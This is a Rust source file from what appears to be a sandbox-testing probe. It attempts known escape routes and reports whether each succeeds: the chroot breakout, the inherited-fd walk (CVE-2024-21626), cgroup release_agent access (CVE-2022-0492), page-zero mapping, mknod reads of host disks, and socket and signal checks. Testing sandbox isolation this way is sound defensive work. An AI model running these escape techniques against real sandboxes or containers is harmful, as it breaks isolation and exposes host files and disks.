//! Whole escape attempts (as opposed to single syscalls): the classic chroot
//! breakout, walking out through inherited fds (CVE-2024-21626), mounting a
//! cgroup v1 hierarchy to reach `release_agent` (CVE-2022-0492), mapping
//! page zero through `personality`, and the host-facing checks the selftest
//! needs (abstract unix sockets, signalling a pid, listing a directory).
//!
//! Like everything in the probe, none of these can harm a host when run
//! outside a sandbox by mistake: nothing is written, opened files are closed
//! at once, a mount made is unmounted at once.

use crate::util::{Report, Usage, cstr, errno, errno_name, outcome, read_lossy, readlink, usage};
use serde_json::{Value, json};
use std::io::Read;

/// `..` repeated often enough to reach `/` from any realistic depth.
const UP: &str = "../../../../../../../../../../../../../../../../../../../../../../../../../../../../../..";

/// Reads up to 4 KiB of an open fd: (bytes, head).
fn read_head(fd: libc::c_int) -> (usize, String) {
    let mut buf = vec![0u8; 4096];
    // SAFETY: buf has room for buf.len() bytes.
    let n = unsafe { libc::read(fd, buf.as_mut_ptr().cast(), buf.len()) };
    let n = n.max(0) as usize;
    (n, String::from_utf8_lossy(&buf[..n.min(256)]).into_owned())
}

/// openat(dirfd, path, O_RDONLY) and read: the attempt as JSON, and whether it read.
fn try_read_at(dirfd: libc::c_int, path: &str) -> (bool, Value) {
    let c = cstr(path);
    // SAFETY: NUL-terminated path; the fd is closed below.
    let fd = unsafe { libc::openat(dirfd, c.as_ptr(), libc::O_RDONLY | libc::O_CLOEXEC | libc::O_NOCTTY) };
    if fd < 0 {
        let e = errno();
        return (false, json!({"path": path, "ok": false, "errno": errno_name(e)}));
    }
    let (bytes, head) = read_head(fd);
    // SAFETY: closing our fd.
    unsafe { libc::close(fd) };
    (true, json!({"path": path, "ok": true, "bytes": bytes, "head": head}))
}

fn strip_root(path: &str) -> &str {
    path.trim_start_matches('/')
}

/// `chroot-escape PATH`: the classic breakout. Keep an fd to the current
/// root, chroot into a fresh subdirectory, fchdir back out through the fd,
/// climb with `..` and chroot(".") there: with CAP_SYS_CHROOT this lands in
/// the real root of the mount namespace. Then read PATH. ok = PATH was read.
pub fn chroot_escape(args: &[String]) -> Result<Report, Usage> {
    let [path] = args else { return Err(usage("chroot-escape PATH")) };
    // SAFETY: NUL-terminated path; the fd stays open for the fchdir below.
    let keep = unsafe { libc::open(c"/".as_ptr(), libc::O_RDONLY | libc::O_DIRECTORY | libc::O_CLOEXEC) };
    let mut steps = Vec::new();
    let mut tmpl = *b"/tmp/husk-probe-chroot-XXXXXX\0";
    // SAFETY: tmpl is a writable NUL-terminated template.
    let dir = unsafe { libc::mkdtemp(tmpl.as_mut_ptr().cast()) };
    let inner = if dir.is_null() { c".".as_ptr() } else { dir.cast_const() };
    // SAFETY: inner is a NUL-terminated path.
    let r = unsafe { libc::chroot(inner) };
    let chrooted = r == 0;
    steps.push(json!({"step": "chroot(subdir)", "result": outcome(r.into(), errno())}));
    if chrooted {
        // SAFETY: keep is our directory fd (or -1, then fchdir fails harmlessly).
        let r = unsafe { libc::fchdir(keep) };
        steps.push(json!({"step": "fchdir(old root)", "result": outcome(r.into(), errno())}));
        for _ in 0..64 {
            // SAFETY: NUL-terminated path.
            unsafe { libc::chdir(c"..".as_ptr()) };
        }
        // SAFETY: NUL-terminated path.
        let r = unsafe { libc::chroot(c".".as_ptr()) };
        steps.push(json!({"step": "chroot(.) after climbing", "result": outcome(r.into(), errno())}));
    }
    // Whether or not chroot worked, also try the plain `..` walk from the cwd.
    let (read_abs, abs) = try_read_at(libc::AT_FDCWD, path);
    let rel = format!("{UP}/{}", strip_root(path));
    let (read_rel, relv) = try_read_at(libc::AT_FDCWD, &rel);
    if !dir.is_null() && !chrooted {
        // SAFETY: removing the empty directory we created.
        unsafe { libc::rmdir(dir) };
    }
    Ok(Report::new(
        read_abs || read_rel,
        json!({"chrooted": chrooted, "steps": steps, "reads": [abs, relv], "cwd": readlink("/proc/self/cwd")}),
    ))
}

/// Open fds of this process (the directory fd used to list them excluded).
fn open_fds() -> Vec<libc::c_int> {
    let mut fds: Vec<libc::c_int> = std::fs::read_dir("/proc/self/fd")
        .map(|d| d.flatten().filter_map(|e| e.file_name().to_str()?.parse().ok()).collect())
        .unwrap_or_default();
    // The ReadDir's own fd is closed again by now.
    // SAFETY: fcntl(F_GETFD) only queries.
    fds.retain(|fd| unsafe { libc::fcntl(*fd, libc::F_GETFD) } >= 0);
    fds.sort_unstable();
    fds
}

/// `fd-escape PATH`: for every inherited fd, try to reach PATH through it:
/// `openat(fd, "../../…/PATH")` (a leaked directory fd is a way out of any
/// root, CVE-2024-21626) and `/proc/self/fd/N/../../…/PATH`. ok = PATH read.
pub fn fd_escape(args: &[String]) -> Result<Report, Usage> {
    let [path] = args else { return Err(usage("fd-escape PATH")) };
    let fds = open_fds();
    let rel = format!("{UP}/{}", strip_root(path));
    let mut any = false;
    let mut tries = Vec::new();
    for fd in &fds {
        let target = readlink(&format!("/proc/self/fd/{fd}"));
        let (a, via_at) = try_read_at(*fd, &rel);
        let (b, via_proc) = try_read_at(libc::AT_FDCWD, &format!("/proc/self/fd/{fd}/{rel}"));
        any |= a || b;
        tries.push(json!({"fd": fd, "target": target, "openat": via_at, "proc_fd": via_proc}));
    }
    Ok(Report::new(any, json!({"fds": fds, "attempts": tries})))
}

fn scratch_dir() -> Option<std::ffi::CString> {
    let mut tmpl = b"/tmp/husk-probe-cg-XXXXXX\0".to_vec();
    // SAFETY: tmpl is a writable NUL-terminated template.
    if unsafe { libc::mkdtemp(tmpl.as_mut_ptr().cast()) }.is_null() {
        return None;
    }
    tmpl.pop();
    std::ffi::CString::new(tmpl).ok()
}

/// Opens PATH for writing (never writes) and closes it: the errno, or ok.
fn open_for_write(path: &str) -> Value {
    let c = cstr(path);
    // SAFETY: NUL-terminated path; the fd is closed at once.
    let fd = unsafe { libc::open(c.as_ptr(), libc::O_WRONLY | libc::O_CLOEXEC) };
    let e = errno();
    if fd >= 0 {
        // SAFETY: closing our fd.
        unsafe { libc::close(fd) };
    }
    let mut v = outcome(fd.into(), e);
    v["path"] = json!(path);
    v
}

/// `cgroup-escape`: the CVE-2022-0492 route to running a host command:
/// find a writable `release_agent` among the cgroup hierarchies the sandbox
/// can see, or make one by mounting a cgroup v1 hierarchy (after
/// `unshare(CLONE_NEWUSER|CLONE_NEWNS|CLONE_NEWCGROUP)`, as the exploit
/// does), and create a child cgroup in each visible hierarchy. Nothing is
/// written to any `release_agent`; a cgroup created is removed at once.
/// ok = a release_agent opened for writing, a cgroup mounted or created.
pub fn cgroup_escape() -> Result<Report, Usage> {
    let mut visible = Vec::new();
    let mut agents = Vec::new();
    let mut mkdirs = Vec::new();
    let mut hierarchies = vec!["/sys/fs/cgroup".to_string()];
    if let Ok(d) = std::fs::read_dir("/sys/fs/cgroup") {
        hierarchies.extend(d.flatten().filter(|e| e.path().is_dir()).map(|e| e.path().display().to_string()));
    }
    let mut escaped = false;
    for h in &hierarchies {
        let agent = format!("{h}/release_agent");
        if std::fs::symlink_metadata(&agent).is_ok() {
            visible.push(agent.clone());
            let v = open_for_write(&agent);
            escaped |= v["ok"] == true;
            agents.push(v);
        }
        let child = cstr(&format!("{h}/husk-probe-{}", std::process::id()));
        // SAFETY: NUL-terminated path; an empty cgroup we make is removed.
        let r = unsafe { libc::mkdir(child.as_ptr(), 0o755) };
        let e = errno();
        if r == 0 {
            escaped = true;
            // SAFETY: removing the directory we just made.
            unsafe { libc::rmdir(child.as_ptr()) };
        }
        let mut v = outcome(r.into(), e);
        v["path"] = json!(child.to_string_lossy());
        mkdirs.push(v);
    }
    // SAFETY: affects only this (single-use) probe process.
    let r = unsafe { libc::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWNS | libc::CLONE_NEWCGROUP) };
    let unshared = outcome(r.into(), errno());
    let mut mounts = Vec::new();
    for (fstype, data) in
        [("cgroup", "rdma"), ("cgroup", "memory"), ("cgroup", "none,name=husk-probe"), ("cgroup2", "")]
    {
        let Some(dir) = scratch_dir() else {
            mounts.push(json!({"fstype": fstype, "options": data, "ok": false, "errno": "no scratch dir"}));
            continue;
        };
        let (t, d) = (cstr(fstype), cstr(data));
        // SAFETY: NUL-terminated strings that live across the call.
        let r = unsafe {
            libc::mount(
                c"cgroup".as_ptr(),
                dir.as_ptr(),
                t.as_ptr(),
                libc::MS_NOSUID | libc::MS_NODEV,
                d.as_ptr().cast(),
            )
        };
        let mut v = outcome(r.into(), errno());
        v["fstype"] = json!(fstype);
        v["options"] = json!(data);
        if r == 0 {
            escaped = true;
            let agent = format!("{}/release_agent", dir.to_string_lossy());
            v["release_agent"] = open_for_write(&agent);
            // SAFETY: undoing our own mount.
            unsafe { libc::umount2(dir.as_ptr(), libc::MNT_DETACH) };
        }
        // SAFETY: removing our own empty directory.
        unsafe { libc::rmdir(dir.as_ptr()) };
        mounts.push(v);
    }
    Ok(Report::new(
        escaped,
        json!({"release_agents": agents, "mkdir": mkdirs, "unshare": unshared, "mounts": mounts,
               "hierarchies": hierarchies.len()}),
    ))
}

const MMAP_PAGE_ZERO: libc::c_ulong = 0x0100000;

/// Is anything mapped at address 0 in this process?
fn page_zero_mapped() -> bool {
    read_lossy("/proc/self/maps").is_some_and(|m| m.lines().any(|l| l.starts_with("00000000-")))
}

/// `page-zero`: what `personality` was abused for in kernel NULL-pointer
/// exploits: map page 0 directly (MAP_FIXED at 0), and via
/// personality(MMAP_PAGE_ZERO) + execve, which makes the ELF loader map it.
/// ok = page zero got mapped either way. (`page-zero --check` is the
/// re-executed half: it reports whether page 0 is mapped.)
pub fn page_zero(args: &[String]) -> Result<Report, Usage> {
    if args == ["--check"] {
        return Ok(Report::new(page_zero_mapped(), json!({"mapped": page_zero_mapped()})));
    }
    if !args.is_empty() {
        return Err(usage("page-zero"));
    }
    // SAFETY: a fixed anonymous mapping at 0, unmapped at once if it worked.
    let p = unsafe {
        libc::mmap(
            std::ptr::null_mut(),
            4096,
            libc::PROT_READ,
            libc::MAP_FIXED | libc::MAP_PRIVATE | libc::MAP_ANONYMOUS,
            -1,
            0,
        )
    };
    let direct_errno = errno();
    let direct_ok = p != libc::MAP_FAILED;
    if direct_ok {
        // SAFETY: unmapping the page we just mapped.
        unsafe { libc::munmap(p, 4096) };
    }
    let mut fds = [0i32; 2];
    // SAFETY: fds is a valid 2-element array.
    if unsafe { libc::pipe2(fds.as_mut_ptr(), libc::O_CLOEXEC) } != 0 {
        return Ok(Report::new(false, json!({"errno": errno_name(errno())})));
    }
    let exe = cstr("/proc/self/exe");
    let argv_c = [cstr("husk-probe"), cstr("page-zero"), cstr("--check")];
    let argv: Vec<*const libc::c_char> =
        argv_c.iter().map(|c| c.as_ptr()).chain(std::iter::once(std::ptr::null())).collect();
    let envp: [*const libc::c_char; 1] = [std::ptr::null()];
    // SAFETY: single-threaded; the child only calls personality, dup2,
    // execve and _exit with data built before the fork.
    let pid = unsafe { libc::fork() };
    if pid == 0 {
        // SAFETY: as above.
        unsafe {
            if libc::personality(MMAP_PAGE_ZERO) < 0 {
                libc::_exit(3);
            }
            libc::dup2(fds[1], 1);
            libc::execve(exe.as_ptr(), argv.as_ptr(), envp.as_ptr());
            libc::_exit(4);
        }
    }
    // SAFETY: closing our copy of the write end.
    unsafe { libc::close(fds[1]) };
    let mut out = String::new();
    // SAFETY: fds[0] is our read end; File takes ownership and closes it.
    let mut f = unsafe { <std::fs::File as std::os::fd::FromRawFd>::from_raw_fd(fds[0]) };
    let _ = f.read_to_string(&mut out);
    let status = crate::util::wait_pid(pid);
    let code = libc::WEXITSTATUS(status);
    let child: Option<Value> = serde_json::from_str(out.trim()).ok();
    let via_exec = child.as_ref().is_some_and(|c| c["mapped"] == true);
    let personality = match code {
        3 => json!({"ok": false, "note": "personality(MMAP_PAGE_ZERO) was refused"}),
        4 => json!({"ok": true, "note": "execve failed"}),
        _ => json!({"ok": true}),
    };
    Ok(Report::new(
        direct_ok || via_exec,
        json!({
            "direct_map": if direct_ok { json!({"ok": true}) } else { json!({"ok": false, "errno": errno_name(direct_errno)}) },
            "personality": personality, "exec_check": child, "mmap_min_addr": read_lossy("/proc/sys/vm/mmap_min_addr").map(|s| s.trim().to_string()),
        }),
    ))
}

/// `connect-unix NAME`: connect a stream unix socket to NAME (`@name` is
/// the abstract namespace). ok = connected.
pub fn connect_unix(args: &[String]) -> Result<Report, Usage> {
    let [name] = args else { return Err(usage("connect-unix PATH|@ABSTRACT")) };
    use std::os::linux::net::SocketAddrExt;
    use std::os::unix::net::{SocketAddr, UnixStream};
    let addr = match name.strip_prefix('@') {
        Some(abs) => SocketAddr::from_abstract_name(abs.as_bytes()),
        None => SocketAddr::from_pathname(name),
    }
    .map_err(|e| usage(format!("bad socket name {name:?}: {e}")))?;
    let r = UnixStream::connect_addr(&addr);
    let mut v = crate::util::io_outcome(&r);
    v["name"] = json!(name);
    Ok(Report::new(r.is_ok(), v))
}

/// `kill PID SIGNAL`: kill(2). ok = the kernel accepted it.
pub fn kill(args: &[String]) -> Result<Report, Usage> {
    let [pid, sig] = args else { return Err(usage("kill PID SIGNAL")) };
    let pid: i32 = pid.parse().map_err(|_| usage("kill PID SIGNAL (numbers)"))?;
    let sig: i32 = sig.parse().map_err(|_| usage("kill PID SIGNAL (numbers)"))?;
    if pid <= 0 {
        return Err(usage("kill: PID must be positive (no process groups)"));
    }
    // SAFETY: integer-only call.
    let r = unsafe { libc::kill(pid, sig) };
    let mut v = outcome(r.into(), errno());
    v["pid"] = json!(pid);
    v["signal"] = json!(sig);
    Ok(Report::new(r == 0, v))
}

/// `mknod-read PATH MAJOR:MINOR`: make a block device node for a device
/// the host has (e.g. its disk) and read from it: the way to a host disk
/// when mknod is allowed and the node is not confined (nodev, a device
/// cgroup, a sandbox kernel with no such device). ok = bytes were read.
pub fn mknod_read(args: &[String]) -> Result<Report, Usage> {
    let [path, dev] = args else { return Err(usage("mknod-read PATH MAJOR:MINOR")) };
    let (ma, mi) = dev
        .split_once(':')
        .and_then(|(a, b)| Some((a.parse::<u32>().ok()?, b.parse::<u32>().ok()?)))
        .ok_or_else(|| usage("mknod-read PATH MAJOR:MINOR (numbers)"))?;
    let c = cstr(path);
    // SAFETY: NUL-terminated path; a block device node, never written to.
    let r = unsafe { libc::mknod(c.as_ptr(), libc::S_IFBLK | 0o600, libc::makedev(ma, mi)) };
    let made = outcome(r.into(), errno());
    if r != 0 {
        return Ok(Report::new(false, json!({"path": path, "device": dev, "mknod": made})));
    }
    // SAFETY: NUL-terminated path; the fd is closed below.
    let fd = unsafe { libc::open(c.as_ptr(), libc::O_RDONLY | libc::O_CLOEXEC) };
    let opened = outcome(fd.into(), errno());
    let mut read = Value::Null;
    let mut bytes = 0;
    if fd >= 0 {
        let mut buf = [0u8; 512];
        // SAFETY: buf has room for 512 bytes; our fd.
        let n = unsafe { libc::read(fd, buf.as_mut_ptr().cast(), buf.len()) };
        read = outcome(n as i64, errno());
        bytes = n.max(0);
        // SAFETY: closing our fd.
        unsafe { libc::close(fd) };
    }
    // SAFETY: removing the node we made.
    unsafe { libc::unlink(c.as_ptr()) };
    Ok(Report::new(
        bytes > 0,
        json!({"path": path, "device": dev, "mknod": made, "open": opened, "read": read, "bytes": bytes}),
    ))
}

/// `ls PATH`: the entries of a directory with type, mode, owner and, for
/// device nodes, major:minor. ok = listed.
/// Entries of `dir` and of its subdirectories (symlinks not followed, at
/// most 3 levels deep), named by their path relative to the listed dir: a
/// device in /dev/net is as much in /dev as one at its top.
fn list_into(dir: std::fs::ReadDir, prefix: &str, depth: u32, entries: &mut Vec<serde_json::Value>) {
    use std::os::unix::fs::{FileTypeExt, MetadataExt};
    for e in dir.flatten() {
        let Ok(md) = std::fs::symlink_metadata(e.path()) else { continue };
        let ft = md.file_type();
        let kind = if ft.is_dir() {
            "dir"
        } else if ft.is_file() {
            "file"
        } else if ft.is_symlink() {
            "symlink"
        } else if ft.is_char_device() {
            "char"
        } else if ft.is_block_device() {
            "block"
        } else if ft.is_fifo() {
            "fifo"
        } else {
            "socket"
        };
        let name = format!("{prefix}{}", e.file_name().to_string_lossy());
        let mut v = json!({"name": name, "type": kind,
                           "mode": format!("{:o}", md.mode() & 0o7777), "uid": md.uid(), "gid": md.gid()});
        if ft.is_char_device() || ft.is_block_device() {
            v["major"] = json!(libc::major(md.rdev()));
            v["minor"] = json!(libc::minor(md.rdev()));
        }
        entries.push(v);
        if ft.is_dir()
            && depth < 3
            && let Ok(sub) = std::fs::read_dir(e.path())
        {
            list_into(sub, &format!("{name}/"), depth + 1, entries);
        }
    }
}

pub fn ls(args: &[String]) -> Result<Report, Usage> {
    let [path] = args else { return Err(usage("ls PATH")) };
    let dir = match std::fs::read_dir(path) {
        Ok(d) => d,
        Err(e) => return Ok(Report::new(false, crate::util::io_outcome(&Err::<(), _>(e)))),
    };
    let mut entries = Vec::new();
    list_into(dir, "", 0, &mut entries);
    entries.sort_by(|a, b| a["name"].as_str().cmp(&b["name"].as_str()));
    Ok(Report::new(true, json!({"path": path, "entries": entries})))
}
